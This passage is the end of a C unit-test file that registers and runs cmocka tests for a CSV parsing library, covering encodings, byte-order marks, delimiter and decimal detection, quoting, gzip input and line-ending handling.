        cmocka_unit_test(test_case02_bom_quoted_header),
        cmocka_unit_test(test_bom_fed_to_reader),
        cmocka_unit_test(test_case03_sep_line),
        cmocka_unit_test(test_sep_line_pipe),
        cmocka_unit_test(test_case05_number_rows),
        cmocka_unit_test(test_case06_percent_columns),
        cmocka_unit_test(test_case08_unterminated_quote),
        cmocka_unit_test(test_unterminated_quote_in_held_rows),
        cmocka_unit_test(test_case09_quotes_and_newlines),
        cmocka_unit_test(test_case11_no_final_newline),
        cmocka_unit_test(test_case12_blank_and_ragged),
        cmocka_unit_test(test_case13_header_variants),
        cmocka_unit_test(test_case15_preamble),
        cmocka_unit_test(test_case16_control_characters),
        cmocka_unit_test(test_case18_overlong_cells),
        cmocka_unit_test(test_case20_formula_texts_kept),
        cmocka_unit_test(test_case22_comma_no_header),
        cmocka_unit_test(test_case23_sap_bom),
        cmocka_unit_test(test_case26_truncated_gzip),
        cmocka_unit_test(test_case39_empty_files),
        cmocka_unit_test(test_blank_lines_only),
        cmocka_unit_test(test_utf16_tab_files),
        cmocka_unit_test(test_utf16_without_bom_rows),
        cmocka_unit_test(test_utf16_without_bom_file),
        cmocka_unit_test(test_utf32_file_rejected),
        cmocka_unit_test(test_case16_stays_utf8),
        cmocka_unit_test(test_bom_in_fields_removed),
        cmocka_unit_test(test_bom_mid_row_file),
        cmocka_unit_test(test_gzip_two_members_rows),
        cmocka_unit_test(test_cr_only_lines),
        cmocka_unit_test(test_mixed_line_endings),
        cmocka_unit_test(test_minus_sign_values),
        cmocka_unit_test(test_inch_marks_kept),
        cmocka_unit_test(test_delimiter_detection),
        cmocka_unit_test(test_delimiter_without_header_test),
        cmocka_unit_test(test_given_delimiter_and_decimal),
        cmocka_unit_test(test_column_names_without_header),
        cmocka_unit_test(test_decimal_vote_and_fallback),
        cmocka_unit_test(test_decimal_tie_and_note),
        cmocka_unit_test(test_decimal_sample_limit),
        cmocka_unit_test(test_row_callback_error_stops),
        cmocka_unit_test(test_field_length_limit),
        cmocka_unit_test(test_sniff_boundary_in_quoted_field),
        cmocka_unit_test(test_chunking_large_mixed_input),
        cmocka_unit_test(test_splitter_every_chunk_size),
        cmocka_unit_test(test_splitter_lines_and_quotes),
        cmocka_unit_test(test_delimiter_names),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
